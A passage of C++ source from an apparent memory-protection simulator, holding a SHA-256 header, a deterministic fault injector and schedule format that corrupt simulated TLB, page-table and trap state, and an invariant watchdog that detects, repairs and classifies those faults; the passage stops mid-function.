#include <string>

#include "arch/types.h"

namespace sm::image {

using Digest = std::array<arch::u8, 32>;

// Incremental hasher: update() any number of times, then final() once.
// Hashing N chunks produces the same digest as hashing their
// concatenation, so callers can stream page-sized pieces instead of
// assembling a contiguous buffer (the exit-digest path hashes hundreds
// of KiB per process).
class Sha256 {
 public:
  void update(std::span<const arch::u8> data);
  Digest final();

 private:
  void compress(const arch::u8* p);

  arch::u32 h_[8] = {0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a,
                     0x510e527f, 0x9b05688c, 0x1f83d9ab, 0x5be0cd19};
  arch::u8 block_[64];
  std::size_t block_len_ = 0;
  arch::u64 total_len_ = 0;
};

Digest sha256(std::span<const arch::u8> data);
Digest hmac_sha256(std::span<const arch::u8> key,
                   std::span<const arch::u8> data);

std::string hex_digest(const Digest& d);

}  // namespace sm::image
