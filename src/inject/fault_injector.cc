#include "inject/fault_injector.h"

#include <algorithm>

#include "kernel/kernel.h"

namespace sm::inject {

using arch::Tlb;
using arch::TlbEntry;
using kernel::Kernel;
using kernel::Process;

const char* to_string(Outcome o) {
  switch (o) {
    case Outcome::kRecovered:
      return "recovered";
    case Outcome::kDegraded:
      return "degraded";
    case Outcome::kBreach:
      return "breach";
  }
  return "?";
}

FaultInjector::FaultInjector(FaultSchedule schedule)
    : schedule_(std::move(schedule)) {
  records_.reserve(schedule_.faults.size());
  for (const ScheduledFault& f : schedule_.faults) {
    records_.push_back(Record{.fault = f});
  }
}

void FaultInjector::attach(Kernel& k) {
  kernel_ = &k;
  k.set_fault_source(this);
  // Every core's MMU gets the hooks: a dropped invlpg/flush can strike any
  // core, and shootdown invalidations land on remote MMUs.
  for (arch::u32 c = 0; c < k.num_cores(); ++c) {
    k.core_mmu(c).set_fault_hooks(this);
  }
  k.phys().set_fault_hooks(this);
}

u32 FaultInjector::fired_count() const {
  return static_cast<u32>(std::ranges::count_if(
      records_, [](const Record& r) { return r.fired; }));
}

u32 FaultInjector::outstanding() const {
  return static_cast<u32>(std::ranges::count_if(records_, [](const Record& r) {
    return r.fired && !r.outcome.has_value();
  }));
}

void FaultInjector::resolve_outstanding(Outcome o) {
  for (Record& r : records_) {
    if (r.fired && !r.outcome.has_value()) r.outcome = o;
  }
}

void FaultInjector::fire(u32 i, u32 site_vaddr) {
  Record& r = records_[i];
  r.fired = true;
  r.fired_at = kernel_ != nullptr ? kernel_->stats().instructions : 0;
  if (kernel_ != nullptr) {
    ++kernel_->stats().faults_injected;
    SM_TRACE(kernel_->trace_sink(),
             record(trace::EventKind::kFaultInjected, site_vaddr, i,
                    static_cast<trace::u8>(r.fault.kind)));
  }
}

void FaultInjector::fire_resolved(u32 i, u32 site_vaddr, Outcome o) {
  fire(i, site_vaddr);
  records_[i].outcome = o;
}

namespace {
// Picks the n-th valid slot of a TLB (flat index), or nullopt.
std::optional<u32> pick_valid_entry(const Tlb& tlb, u32 n) {
  u32 valid = 0;
  for (u32 i = 0; i < tlb.capacity(); ++i) {
    if (tlb.entry_at(i).valid) ++valid;
  }
  if (valid == 0) return std::nullopt;
  u32 want = n % valid;
  for (u32 i = 0; i < tlb.capacity(); ++i) {
    if (!tlb.entry_at(i).valid) continue;
    if (want-- == 0) return i;
  }
  return std::nullopt;
}

// Flips the pfn low bit of one valid entry — a payload-CAM bit flip. The
// flipped pfn stays inside physical memory (frame counts are even), so the
// fault corrupts the translation without crashing the simulator itself.
bool flip_entry(Tlb& tlb, u32 n, u32& vaddr_out) {
  const auto idx = pick_valid_entry(tlb, n);
  if (!idx) return false;
  const TlbEntry e = tlb.entry_at(*idx);
  vaddr_out = e.vpn << arch::kPageShift;
  return tlb.corrupt_entry(*idx, e.pfn ^ 1u, e.user, e.writable, e.no_exec);
}
}  // namespace

void FaultInjector::apply_due(Kernel& k, Process& p) {
  while (next_ < records_.size() &&
         records_[next_].fault.after_instruction <= k.stats().instructions) {
    const u32 i = next_++;
    const ScheduledFault& f = records_[i].fault;
    switch (f.kind) {
      case FaultKind::kSpuriousTlbFlush:
        // Absorbed by design: the TLBs refill from the (consistent) page
        // tables on the next accesses.
        fire_resolved(i, 0, Outcome::kRecovered);
        k.mmu().flush_tlbs();
        break;
      case FaultKind::kDroppedTlbFlush:
        armed_drop_flush_.push_back(i);
        break;
      case FaultKind::kDroppedInvlpg:
        armed_drop_invlpg_.push_back(i);
        break;
      case FaultKind::kItlbBitFlip: {
        u32 site = 0;
        if (flip_entry(k.mmu().itlb(), f.arg, site)) {
          fire(i, site);  // watchdog classifies
        } else {
          fire_resolved(i, 0, Outcome::kRecovered);  // empty TLB: no victim
        }
        break;
      }
      case FaultKind::kDtlbBitFlip: {
        u32 site = 0;
        if (flip_entry(k.mmu().dtlb(), f.arg, site)) {
          fire(i, site);
        } else {
          fire_resolved(i, 0, Outcome::kRecovered);
        }
        break;
      }
      case FaultKind::kPteCorruption: {
        if (!p.as || p.as->split_pages().empty()) {
          fire_resolved(i, 0, Outcome::kRecovered);  // nothing to corrupt
          break;
        }
        auto& pages = p.as->split_pages();
        u32 pick = (f.arg >> 2) % static_cast<u32>(pages.size());
        auto it = pages.begin();
        std::advance(it, pick);
        const u32 va = it->first << arch::kPageShift;
        arch::PageTable pt = p.as->pt();
        arch::Pte pte = pt.get(va);
        if (!pte.present()) {
          fire_resolved(i, va, Outcome::kRecovered);
          break;
        }
        switch (f.arg & 3u) {
          case 0:
          case 3:
            pte.unrestrict();  // split page suddenly user-accessible
            break;
          case 1:
            pte.clear(arch::Pte::kSplit);  // engine loses its marker
            break;
          case 2:
            pte.set_pfn(it->second.data_frame);  // repointed at data frame
            break;
        }
        pt.set(va, pte);
        fire(i, va);  // watchdog detects via the split-PTE audit
        break;
      }
      case FaultKind::kLostDebugTrap:
        armed_lost_trap_.push_back(i);
        break;
      case FaultKind::kDuplicateDebugTrap:
        armed_dup_trap_.push_back(i);
        break;
      case FaultKind::kTrapFlagClear:
        armed_tf_clear_.push_back(i);
        break;
      case FaultKind::kTrapFlagSet: {
        arch::Regs& regs = k.regs_of(p);
        if (!regs.tf()) {
          regs.set_tf(true);  // spurious single-step storm begins
          fire(i, regs.pc);
        } else {
          // TF already set (inside a window): setting it again is a no-op.
          fire_resolved(i, regs.pc, Outcome::kRecovered);
        }
        break;
      }
      case FaultKind::kFrameExhaustion:
        armed_alloc_fail_.push_back(i);
        break;
      case FaultKind::kMidWindowPreempt:
        armed_preempt_.push_back(i);
        break;
      case FaultKind::kDropIpi:
        armed_drop_ipi_.push_back(i);
        break;
      case FaultKind::kAckNoFlush:
        armed_ack_no_flush_.push_back(i);
        break;
      case FaultKind::kStallWorker:
        armed_stall_.push_back(i);
        break;
      case FaultKind::kDropConnection:
        armed_drop_conn_.push_back(i);
        break;
      case FaultKind::kCount:
        break;
    }
  }
}

void FaultInjector::pre_step(Kernel& k, Process& p) {
  apply_due(k, p);
  // TF-clear waits for an open window (TF actually set) to snipe.
  if (!armed_tf_clear_.empty()) {
    arch::Regs& regs = k.regs_of(p);
    if (regs.tf()) {
      const u32 i = armed_tf_clear_.front();
      armed_tf_clear_.erase(armed_tf_clear_.begin());
      regs.set_tf(false);  // the step window will never close itself
      fire(i, regs.pc);
    }
  }
}

bool FaultInjector::drop_debug_trap(Kernel& k, Process& p) {
  (void)k;
  (void)p;
  if (armed_lost_trap_.empty()) return false;
  const u32 i = armed_lost_trap_.front();
  armed_lost_trap_.erase(armed_lost_trap_.begin());
  fire(i, kernel_ != nullptr ? kernel_->cpu().regs().pc : 0);
  return true;
}

bool FaultInjector::duplicate_debug_trap(Kernel& k, Process& p) {
  (void)k;
  (void)p;
  if (armed_dup_trap_.empty()) return false;
  const u32 i = armed_dup_trap_.front();
  armed_dup_trap_.erase(armed_dup_trap_.begin());
  // Absorbed by design: Algorithm 2's handler is idempotent once the
  // pending window is cleared.
  fire_resolved(i, kernel_ != nullptr ? kernel_->cpu().regs().pc : 0,
                Outcome::kRecovered);
  return true;
}

bool FaultInjector::force_preempt(Kernel& k, Process& p) {
  (void)k;
  if (armed_preempt_.empty()) return false;
  if (!p.pending_split_vaddr) return false;  // wait for a real window
  const u32 i = armed_preempt_.front();
  armed_preempt_.erase(armed_preempt_.begin());
  // Absorbed by design: the kernel's mid-window switch handling (stale
  // pending retirement + CR3 reflush) makes preemption safe.
  fire_resolved(i, *p.pending_split_vaddr, Outcome::kRecovered);
  return true;
}

bool FaultInjector::drop_ipi(Kernel& k, Process& p, u32 target_core,
                             u32 vaddr) {
  (void)k;
  (void)p;
  (void)target_core;
  if (armed_drop_ipi_.empty()) return false;
  const u32 i = armed_drop_ipi_.front();
  armed_drop_ipi_.erase(armed_drop_ipi_.begin());
  // The send is swallowed; the kernel retries, each retry consuming one
  // armed entry. An exhausted retry budget parks a PendingShootdown (I7
  // if a window opens over it); the watchdog classifies on repair.
  fire(i, vaddr);
  return true;
}

bool FaultInjector::ack_without_flush(Kernel& k, Process& p, u32 target_core,
                                      u32 vaddr) {
  (void)k;
  (void)p;
  (void)target_core;
  if (armed_ack_no_flush_.empty()) return false;
  const u32 i = armed_ack_no_flush_.front();
  armed_ack_no_flush_.erase(armed_ack_no_flush_.begin());
  // The target acks but keeps the stale entry — the I6 state. The remote
  // sweep finds and repairs it; the watchdog classifies.
  fire(i, vaddr);
  return true;
}

arch::u64 FaultInjector::stall_cycles(Kernel& k, Process& p) {
  if (armed_stall_.empty()) return 0;
  // Defer while a single-step window is open: the stall models a slow
  // worker, not a hole in the Algorithm-2 protocol. The armed entry waits
  // for the window to close rather than being consumed.
  const arch::Regs& regs = k.regs_of(p);
  if (regs.tf() || p.pending_split_vaddr.has_value()) return 0;
  const u32 i = armed_stall_.front();
  armed_stall_.erase(armed_stall_.begin());
  // Absorbed by design: the scheduler routes around a parked process and
  // the deadline timer resumes it; no protocol state is at risk.
  const u64 cycles = 256 + (records_[i].fault.arg & 0x3FFFu);
  fire_resolved(i, regs.pc, Outcome::kRecovered);
  return cycles;
}

bool FaultInjector::drop_connection(Kernel& k, Process& p, u32 port) {
  (void)k;
  (void)p;
  if (armed_drop_conn_.empty()) return false;
  const u32 i = armed_drop_conn_.front();
  armed_drop_conn_.erase(armed_drop_conn_.begin());
  // Degradation by construction: the caller sees ERR_REFUSED exactly as if
  // the backlog were full, and its retry/backoff path absorbs the loss.
  fire_resolved(i, port, Outcome::kDegraded);
  return true;
}

bool FaultInjector::drop_tlb_flush() {
  if (armed_drop_flush_.empty()) return false;
  const u32 i = armed_drop_flush_.front();
  armed_drop_flush_.erase(armed_drop_flush_.begin());
  fire(i, 0);  // stale entries persist; watchdog classifies
  return true;
}

bool FaultInjector::drop_invlpg(u32 vaddr) {
  if (armed_drop_invlpg_.empty()) return false;
  const u32 i = armed_drop_invlpg_.front();
  armed_drop_invlpg_.erase(armed_drop_invlpg_.begin());
  fire(i, vaddr);
  return true;
}

bool FaultInjector::fail_frame_alloc() {
  if (armed_alloc_fail_.empty()) return false;
  const u32 i = armed_alloc_fail_.front();
  armed_alloc_fail_.erase(armed_alloc_fail_.begin());
  // Degradation by construction: every allocation site either falls back
  // to an unsplit locked mapping (split code frame) or kills only the
  // requesting process (kernel OOM catch).
  fire_resolved(i, 0, Outcome::kDegraded);
  return true;
}

}  // namespace sm::inject
