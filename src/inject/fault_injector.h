// FaultInjector: replays a FaultSchedule against a running kernel.
//
// One injector drives one Kernel instance. It implements both hook
// interfaces — arch::FaultHooks for the cold MMU/allocator seams and
// kernel::FaultSource for the run-loop protocol points — and keeps a
// per-fault Record so a campaign can prove that every fault that actually
// fired was classified (recovered / degraded / breach, never silent).
//
// Two firing disciplines:
//  - count-scheduled kinds apply themselves the moment the simulated
//    instruction counter passes `after_instruction` (TLB/PTE corruption,
//    spurious flush, trap-flag flips);
//  - event-gated kinds arm at that point and fire at the NEXT matching
//    protocol event (dropped flush/invlpg, lost/duplicated debug trap,
//    frame exhaustion, mid-window preemption). An armed fault whose event
//    never occurs simply never fires, and is reported as unfired.
//
// Everything is a pure function of (schedule, simulated event stream), so
// replays are byte-identical across --jobs parallelism.
#pragma once

#include <optional>
#include <vector>

#include "arch/fault_hooks.h"
#include "inject/fault_schedule.h"
#include "kernel/hooks.h"

namespace sm::kernel {
class Kernel;
struct Process;
}  // namespace sm::kernel

namespace sm::snapshot {
struct Access;
}

namespace sm::inject {

// How a fired fault ended up, as judged by the invariant watchdog (or
// eagerly by the injector for faults whose outcome is absorbed by design).
enum class Outcome : arch::u8 {
  kRecovered,  // detected and resynced, or harmlessly absorbed
  kDegraded,   // page locked unsplit / process killed, guest kept running
  kBreach,     // injected bytes reached fetch — campaign failure
};

const char* to_string(Outcome o);

class FaultInjector final : public arch::FaultHooks,
                            public kernel::FaultSource {
 public:
  struct Record {
    ScheduledFault fault;
    bool fired = false;
    u64 fired_at = 0;  // instruction count at fire time
    std::optional<Outcome> outcome;
  };

  explicit FaultInjector(FaultSchedule schedule);

  // Wires every hook point of `k` to this injector. Call once, before
  // Kernel::run; the injector must outlive the kernel's run.
  void attach(kernel::Kernel& k);

  // --- kernel::FaultSource ------------------------------------------------
  void pre_step(kernel::Kernel& k, kernel::Process& p) override;
  bool drop_debug_trap(kernel::Kernel& k, kernel::Process& p) override;
  bool duplicate_debug_trap(kernel::Kernel& k, kernel::Process& p) override;
  bool force_preempt(kernel::Kernel& k, kernel::Process& p) override;
  bool drop_ipi(kernel::Kernel& k, kernel::Process& p, u32 target_core,
                u32 vaddr) override;
  bool ack_without_flush(kernel::Kernel& k, kernel::Process& p,
                         u32 target_core, u32 vaddr) override;
  arch::u64 stall_cycles(kernel::Kernel& k, kernel::Process& p) override;
  bool drop_connection(kernel::Kernel& k, kernel::Process& p,
                       u32 port) override;

  // --- arch::FaultHooks ---------------------------------------------------
  bool drop_tlb_flush() override;
  bool drop_invlpg(u32 vaddr) override;
  bool fail_frame_alloc() override;

  // --- accounting ---------------------------------------------------------
  const std::vector<Record>& records() const { return records_; }
  u32 fired_count() const;
  // Fired faults not yet assigned an outcome.
  u32 outstanding() const;
  // The watchdog calls this after a full clean audit (state verified and
  // repaired): every fired-but-unresolved fault is assigned `o`.
  void resolve_outstanding(Outcome o);

 private:
  friend struct sm::snapshot::Access;

  void apply_due(kernel::Kernel& k, kernel::Process& p);
  // Marks record `i` fired now; returns its index for trace payloads.
  void fire(u32 i, u32 site_vaddr);
  void fire_resolved(u32 i, u32 site_vaddr, Outcome o);

  FaultSchedule schedule_;
  std::vector<Record> records_;
  kernel::Kernel* kernel_ = nullptr;
  u32 next_ = 0;  // first schedule entry not yet applied/armed

  // Armed event-gated faults: record indices, consumed FIFO.
  std::vector<u32> armed_drop_flush_;
  std::vector<u32> armed_drop_invlpg_;
  std::vector<u32> armed_alloc_fail_;
  std::vector<u32> armed_lost_trap_;
  std::vector<u32> armed_dup_trap_;
  std::vector<u32> armed_preempt_;
  std::vector<u32> armed_tf_clear_;  // waits for TF to be set
  std::vector<u32> armed_drop_ipi_;  // shootdown IPI sends to swallow
  std::vector<u32> armed_ack_no_flush_;  // IPIs to ack without flushing
  std::vector<u32> armed_stall_;     // dispatches to park (defers in windows)
  std::vector<u32> armed_drop_conn_;  // connect() attempts to drop in flight
};

}  // namespace sm::inject
