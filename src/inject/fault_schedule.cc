#include "inject/fault_schedule.h"

#include <algorithm>
#include <cstdio>
#include <sstream>

namespace sm::inject {

u64 splitmix64_next(u64& state) {
  u64 z = (state += 0x9E3779B97F4A7C15ull);
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
  return z ^ (z >> 31);
}

const char* to_string(FaultKind k) {
  switch (k) {
    case FaultKind::kSpuriousTlbFlush:
      return "spurious-flush";
    case FaultKind::kDroppedTlbFlush:
      return "dropped-flush";
    case FaultKind::kDroppedInvlpg:
      return "dropped-invlpg";
    case FaultKind::kItlbBitFlip:
      return "itlb-flip";
    case FaultKind::kDtlbBitFlip:
      return "dtlb-flip";
    case FaultKind::kPteCorruption:
      return "pte-corrupt";
    case FaultKind::kLostDebugTrap:
      return "lost-trap";
    case FaultKind::kDuplicateDebugTrap:
      return "dup-trap";
    case FaultKind::kTrapFlagClear:
      return "tf-clear";
    case FaultKind::kTrapFlagSet:
      return "tf-set";
    case FaultKind::kFrameExhaustion:
      return "frame-exhaust";
    case FaultKind::kMidWindowPreempt:
      return "preempt";
    case FaultKind::kDropIpi:
      return "drop-ipi";
    case FaultKind::kAckNoFlush:
      return "ack-no-flush";
    case FaultKind::kStallWorker:
      return "stall-worker";
    case FaultKind::kDropConnection:
      return "drop-connection";
    case FaultKind::kCount:
      break;
  }
  return "?";
}

std::optional<FaultKind> fault_kind_from_string(const std::string& name) {
  for (u32 i = 0; i < static_cast<u32>(FaultKind::kCount); ++i) {
    const auto k = static_cast<FaultKind>(i);
    if (name == to_string(k)) return k;
  }
  return std::nullopt;
}

FaultSchedule FaultSchedule::generate(u64 seed, u32 count, u64 horizon) {
  FaultSchedule s;
  s.seed = seed;
  u64 state = seed;
  if (horizon == 0) horizon = 1;
  s.faults.reserve(count);
  for (u32 i = 0; i < count; ++i) {
    ScheduledFault f;
    f.after_instruction = splitmix64_next(state) % horizon;
    f.kind = static_cast<FaultKind>(splitmix64_next(state) %
                                    static_cast<u64>(FaultKind::kCount));
    f.arg = static_cast<u32>(splitmix64_next(state));
    s.faults.push_back(f);
  }
  std::ranges::stable_sort(s.faults, [](const auto& a, const auto& b) {
    return a.after_instruction < b.after_instruction;
  });
  return s;
}

std::string FaultSchedule::to_lines() const {
  std::ostringstream os;
  for (const ScheduledFault& f : faults) {
    os << ";!fault " << f.after_instruction << " " << to_string(f.kind) << " "
       << f.arg << "\n";
  }
  return os.str();
}

std::optional<ScheduledFault> FaultSchedule::parse_line(
    const std::string& line) {
  std::istringstream is(line);
  std::string tag, kind_name;
  u64 after = 0;
  u64 arg = 0;
  is >> tag >> after >> kind_name >> arg;
  if (is.fail() || tag != ";!fault") return std::nullopt;
  const auto kind = fault_kind_from_string(kind_name);
  if (!kind) return std::nullopt;
  ScheduledFault f;
  f.after_instruction = after;
  f.kind = *kind;
  f.arg = static_cast<u32>(arg);
  return f;
}

}  // namespace sm::inject
