// Deterministic fault schedules: WHAT goes wrong and WHEN.
//
// A schedule is a list of (after_instruction, kind, arg) triples sorted by
// instruction count. Schedules are generated from a splitmix64 seed — the
// same generator discipline as fuzz::Rng, duplicated here so inject/ stays
// below fuzz/ in the dependency order — and round-trip through the corpus
// text form (`;!fault <after> <kind> <arg>` lines) so a failing schedule
// can be committed as a reproducer next to the guest program it broke.
//
// Replay is byte-identical by construction: every firing decision is a
// pure function of the schedule and the simulated instruction counter, so
// ExperimentRunner's --jobs determinism contract holds.
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "arch/types.h"

namespace sm::inject {

using arch::u32;
using arch::u64;

// The named protocol points the injector can break (ISSUE 5 fault model).
enum class FaultKind : arch::u8 {
  kSpuriousTlbFlush = 0,  // extra full flush out of nowhere
  kDroppedTlbFlush,       // next CR3-reload flush is lost (stale TLBs)
  kDroppedInvlpg,         // next invlpg is lost (one stale entry)
  kItlbBitFlip,           // flip the pfn low bit of a live I-TLB entry
  kDtlbBitFlip,           // flip the pfn low bit of a live D-TLB entry
  kPteCorruption,         // corrupt a split page's PTE (see arg encoding)
  kLostDebugTrap,         // next debug trap is consumed but never handled
  kDuplicateDebugTrap,    // next debug trap is delivered twice
  kTrapFlagClear,         // clear TF while a single-step window is open
  kTrapFlagSet,           // set TF spuriously outside any window
  kFrameExhaustion,       // next frame allocation fails
  kMidWindowPreempt,      // force a context switch inside a step window
  kDropIpi,               // next shootdown IPI send is lost (sender retries)
  kAckNoFlush,            // next IPI is acked without flushing (stale entry)
  kStallWorker,           // park the dispatched process for arg-derived cycles
  kDropConnection,        // next connect() is dropped in flight (ERR_REFUSED)
  kCount,
};

const char* to_string(FaultKind k);
std::optional<FaultKind> fault_kind_from_string(const std::string& name);

struct ScheduledFault {
  u64 after_instruction = 0;  // fires at the first step boundary >= this
  FaultKind kind = FaultKind::kSpuriousTlbFlush;
  // Kind-specific selector. Bit flips: picks the victim entry. PTE
  // corruption: low 2 bits pick the sub-kind (0 = unrestrict, 1 = clear
  // kSplit, 2 = repoint at the data frame), the rest picks the split page.
  u32 arg = 0;
};

struct FaultSchedule {
  u64 seed = 0;
  std::vector<ScheduledFault> faults;

  bool empty() const { return faults.empty(); }

  // `count` faults over [0, horizon) instructions, kinds drawn uniformly.
  // Deterministic in (seed, count, horizon); sorted by after_instruction.
  static FaultSchedule generate(u64 seed, u32 count, u64 horizon);

  // One `;!fault <after> <kind> <arg>` line per fault (corpus embedding).
  std::string to_lines() const;
  // Parses one `;!fault ...` line; returns nullopt if malformed.
  static std::optional<ScheduledFault> parse_line(const std::string& line);
};

// splitmix64 (same algorithm as fuzz::Rng; duplicated to keep inject/
// independent of fuzz/).
u64 splitmix64_next(u64& state);

}  // namespace sm::inject
