#include "invariant/watchdog.h"

#include "arch/mmu.h"
#include "arch/page_table.h"
#include "arch/pte.h"
#include "arch/tlb.h"
#include "kernel/kernel.h"

namespace sm::invariant {

using arch::PageTable;
using arch::Pte;
using arch::Tlb;
using arch::TlbEntry;
using kernel::Kernel;
using kernel::Process;
using kernel::SplitPair;

namespace {
// Full audit at least this often, even with no version/pid movement (covers
// dropped flush/invlpg, which by definition leave no version trail).
constexpr u32 kAuditPeriod = 16;

constexpr u32 vpn_of(u32 va) { return va >> arch::kPageShift; }
}  // namespace

void InvariantWatchdog::attach(Kernel& k, inject::FaultInjector* injector) {
  injector_ = injector;
  k.set_step_observer(this);
}

// The most recently fired, still-unclassified fault — the best attribution
// guess for a violation found right now (~0u when none / no injector).
static u32 blamed_index(const inject::FaultInjector* injector) {
  u32 blame = ~0u;
  if (injector == nullptr) return blame;
  const auto& recs = injector->records();
  for (u32 i = 0; i < recs.size(); ++i) {
    if (recs[i].fired && !recs[i].outcome.has_value()) blame = i;
  }
  return blame;
}

void InvariantWatchdog::on_violation(Kernel& k, Process& p, u32 vaddr,
                                     arch::u8 invariant) {
  ++violations_;
  ++k.stats().invariant_violations;
  SM_TRACE(k.trace_sink(),
           record(trace::EventKind::kInvariantViolation, vaddr,
                  blamed_index(injector_), invariant));
  const u64 key = (static_cast<u64>(p.pid) << 32) | vpn_of(vaddr);
  const u32 repairs = ++repairs_[key];
  if (repairs > kRetryLimit && k.engine().degrade_lock_unsplit(k, p, vaddr)) {
    ++degradations_;
    ++k.stats().invariant_degradations;
    degraded_since_resolve_ = true;
    repairs_.erase(key);
    k.log("[invariant] I" + std::to_string(invariant) + " pid " +
          std::to_string(p.pid) + " page " + std::to_string(vaddr) +
          ": repair limit hit, degraded to unsplit-locked");
    return;
  }
  ++recoveries_;
  ++k.stats().invariant_recoveries;
}

void InvariantWatchdog::check_split_pte(Kernel& k, Process& p, u32 vpn) {
  const SplitPair* pair = p.as->split_pair(vpn);
  if (pair == nullptr) return;
  // Inside the page's own fill window every I1 state is legal by design
  // (unrestricted, either frame) — Algorithm 1 holds the PTE mid-protocol.
  if (p.pending_split_vaddr && vpn_of(*p.pending_split_vaddr) == vpn) return;
  const u32 va = vpn << arch::kPageShift;
  PageTable pt = p.as->pt();
  const Pte pte = pt.get(va);
  if (!pte.present()) return;
  Pte fixed = pte;
  if (fixed.user()) fixed.restrict_supervisor();
  if (!fixed.split()) fixed.set(Pte::kSplit);
  if (fixed.pfn() != pair->code_frame && fixed.pfn() != pair->data_frame) {
    fixed.set_pfn(pair->code_frame);
  }
  if (fixed == pte) return;
  pt.set(va, fixed);
  // Conservatively drop both cached translations so nothing keeps serving
  // state derived from the corrupt PTE. Direct TLB calls, not mmu.invlpg:
  // repairs must not be swallowed by an armed dropped-invlpg fault.
  k.mmu().itlb().invalidate(vpn);
  k.mmu().dtlb().invalidate(vpn);
  on_violation(k, p, va, kI1);
}

void InvariantWatchdog::scan_split_ptes(Kernel& k, Process& p) {
  // Snapshot the vpns first: a repair that escalates to degradation erases
  // the page from split_pages() mid-scan, invalidating live iterators.
  scan_vpns_.clear();
  for (const auto& [vpn, pair] : p.as->split_pages()) {
    scan_vpns_.push_back(vpn);
  }
  for (const u32 vpn : scan_vpns_) {
    check_split_pte(k, p, vpn);
  }
}

void InvariantWatchdog::check_fetch_page(Kernel& k, Process& p, u32 pc) {
  const auto check_one = [&](u32 vpn) {
    const SplitPair* pair = p.as->split_pair(vpn);
    if (pair == nullptr) return;
    Tlb& itlb = k.mmu().itlb();
    const auto e = itlb.peek(vpn);
    if (e && e->pfn == pair->data_frame) {
      itlb.invalidate(vpn);
      on_violation(k, p, vpn << arch::kPageShift, kI2);
    }
  };
  check_one(vpn_of(pc));
  // A fetch may straddle onto the next page (max instruction length < 8).
  const u32 next = vpn_of(pc + 7);
  if (next != vpn_of(pc)) check_one(next);
}

void InvariantWatchdog::sweep_tlb(Kernel& k, Process& p, Tlb& tlb,
                                  bool is_itlb, arch::u8 remote_inv) {
  PageTable pt = p.as->pt();
  for (u32 i = 0; i < tlb.capacity(); ++i) {
    const TlbEntry e = tlb.entry_at(i);  // copy: we may invalidate the slot
    if (!e.valid) continue;
    const u32 va = e.vpn << arch::kPageShift;
    const SplitPair* pair = p.as->split_pair(e.vpn);
    arch::u8 inv = 0;
    if (pair != nullptr) {
      // Split pages cache user=1 deliberately; the pair, not the PTE, is
      // the ground truth for which frames an entry may legally serve.
      if (is_itlb && e.pfn == pair->data_frame) {
        inv = kI2;
      } else if (!is_itlb && e.pfn == pair->code_frame && e.writable) {
        inv = kI3;
      } else if (e.pfn != pair->code_frame && e.pfn != pair->data_frame) {
        inv = kI5;
      }
    } else {
      const Pte pte = pt.get(va);
      if (!pte.present() || e.pfn != pte.pfn()) {
        inv = kI5;  // stale translation (dropped flush/invlpg, bit flip)
      } else if (e.user && !pte.user() && !pte.no_exec()) {
        // User elevation. PAGEEXEC-restricted pages (!user && no_exec)
        // cache user=1 by design and are exempt.
        inv = kI5;
      } else if (e.writable && !pte.writable()) {
        inv = kI5;  // writable elevation (stale after mprotect/fork-COW)
      }
    }
    if (inv != 0) {
      tlb.invalidate(e.vpn);
      on_violation(k, p, va, remote_inv != 0 ? remote_inv : inv);
    }
  }
}

void InvariantWatchdog::sweep_remote_cores(Kernel& k) {
  for (u32 c = 0; c < k.num_cores(); ++c) {
    if (c == k.active_core()) continue;
    arch::Mmu& mmu = k.core_mmu(c);
    if (mmu.itlb().valid_count() == 0 && mmu.dtlb().valid_count() == 0) {
      continue;
    }
    // Attribute the core's cached translations by CR3: set_cr3 flushes
    // both TLBs, so valid entries can only belong to the current root. A
    // root with no live owner (process died since) has nothing to check
    // against; its entries are unreachable until a set_cr3 flushes them.
    Process* owner = nullptr;
    for (const auto& up : k.processes()) {
      if (up->alive() && up->as && up->as->root() == mmu.cr3()) {
        owner = up.get();
        break;
      }
    }
    if (owner == nullptr) continue;
    sweep_tlb(k, *owner, mmu.itlb(), /*is_itlb=*/true, kI6);
    sweep_tlb(k, *owner, mmu.dtlb(), /*is_itlb=*/false, kI6);
  }
}

void InvariantWatchdog::check_smp_window(Kernel& k, Process& p) {
  if (k.num_cores() == 1 || !p.pending_split_vaddr || !p.as) return;
  const u32 va = *p.pending_split_vaddr;
  const u32 vpn = vpn_of(va);
  const u32 root = p.as->root();
  // I7: every shootdown of the window page must have been acked before
  // the window opened. A matching pending entry means IPI retries were
  // exhausted mid-protocol; repair completes the invalidations directly.
  for (const auto& ps : k.pending_shootdowns()) {
    if (ps.root == root && ps.vpn == vpn) {
      on_violation(k, p, va, kI7);
      k.complete_pending_shootdowns();
      break;
    }
  }
  // I6 (window half): mid-window no remote core may cache the window page
  // at all — its PTE is transiently unrestricted and re-pointed, so a
  // remote hit would serve a frame this core holds mid-protocol.
  for (u32 c = 0; c < k.num_cores(); ++c) {
    if (c == k.active_core()) continue;
    arch::Mmu& mmu = k.core_mmu(c);
    if (mmu.cr3() != root) continue;
    if (mmu.itlb().contains(vpn) || mmu.dtlb().contains(vpn)) {
      mmu.itlb().invalidate(vpn);
      mmu.dtlb().invalidate(vpn);
      on_violation(k, p, va, kI6);
    }
  }
}

void InvariantWatchdog::resolve_after_audit() {
  if (injector_ == nullptr) return;
  if (injector_->outstanding() > 0) {
    injector_->resolve_outstanding(degraded_since_resolve_
                                       ? inject::Outcome::kDegraded
                                       : inject::Outcome::kRecovered);
  }
  degraded_since_resolve_ = false;
}

void InvariantWatchdog::full_audit(Kernel& k, Process& p) {
  steps_since_audit_ = 0;
  if (core_itlb_versions_.size() < k.num_cores()) {
    core_itlb_versions_.resize(k.num_cores(), ~u64{0});
    core_dtlb_versions_.resize(k.num_cores(), ~u64{0});
  }
  sweep_tlb(k, p, k.mmu().itlb(), /*is_itlb=*/true);
  sweep_tlb(k, p, k.mmu().dtlb(), /*is_itlb=*/false);
  sweep_remote_cores(k);
  scan_split_ptes(k, p);
  // A pending shootdown with no window open over it is benign (the stale
  // entries belong to pages whose PTEs already mutated, and I6's sweep
  // above repaired any disagreement) — complete it silently so it cannot
  // ripen into an I7 later. The direct Tlb::invalidate path cannot be
  // swallowed by an armed drop fault.
  if (!k.pending_shootdowns().empty()) k.complete_pending_shootdowns();
  // Record AFTER the sweeps: our own repairs bump versions and must not
  // re-trigger an audit next step.
  const u32 core = k.active_core();
  core_itlb_versions_[core] = k.mmu().itlb().version();
  core_dtlb_versions_[core] = k.mmu().dtlb().version();
  // State verified and repaired: everything fired so far is classified.
  resolve_after_audit();
}

void InvariantWatchdog::pre_step(Kernel& k, Process& p) {
  if (!p.alive() || !p.as) return;
  if (core_itlb_versions_.size() < k.num_cores()) {
    core_itlb_versions_.resize(k.num_cores(), ~u64{0});
